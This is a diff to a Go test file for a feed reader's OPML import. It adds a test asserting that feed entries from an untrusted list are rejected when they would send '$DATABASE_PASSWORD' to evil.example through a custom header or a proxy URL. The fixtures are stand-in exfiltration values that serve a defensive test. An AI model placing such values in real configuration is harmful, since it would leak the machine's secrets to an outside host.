@@ -132,6 +132,24 @@ func TestWhatCheckWouldRefuseIsLeftOut(t *testing.T) {
 	}
 }
 
+// A list that a stranger made must not have our secrets sent to the stranger.
+func TestHeadersAreTakenFromNobody(t *testing.T) {
+	cfg := load(t, newsroom(t, "sources: []\n"))
+	theirs := []news.Source{
+		{ID: "a", Title: "A", URL: "https://evil.example/", Headers: map[string]string{"X-Key": "$DATABASE_PASSWORD"}},
+		{ID: "b", Title: "B", URL: "https://b.example/", Proxy: "http://$DATABASE_PASSWORD@evil.example:3128"},
+		{ID: "c", Title: "C", URL: "https://c.example/"},
+	}
+	text, err := WriteOPML("", theirs, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := Plan(cfg, read(t, string(text)), Options{Load: []config.Option{env}})
+	if len(p.Sources) != 1 || p.Sources[0].ID != "c" || p.Count(Wrong) != 2 || !strings.Contains(p.Lines[0].Why, "secrets of this machine") {
+		t.Errorf("%+v, %+v", p.Sources, p.Lines)
+	}
+}
+
 // A list of 300 feeds as a feed reader exports it comes in whole, its folders
 // as categories, and goes out and comes in again without a change.
 func TestAListOfThreeHundredFeeds(t *testing.T) {
@@ -196,7 +214,7 @@ func again(t interface {
 			fmt.Fprintf(&empty, "  - {id: %s, title: %q, umbrella: %t}\n", c.ID, c.Title, c.Umbrella)
 		}
 		path := newsroom(t, empty.String()+"sources: []\n")
-		edit, err := config.Plan(path, Plan(load(t, path), read(t, string(first)), Options{Load: []config.Option{env}}).Change(), env)
+		edit, err := config.Plan(path, Plan(load(t, path), read(t, string(first)), Options{Trust: true, Load: []config.Option{env}}).Change(), env)
 		if err != nil {
 			t.Fatal(err)
 		}
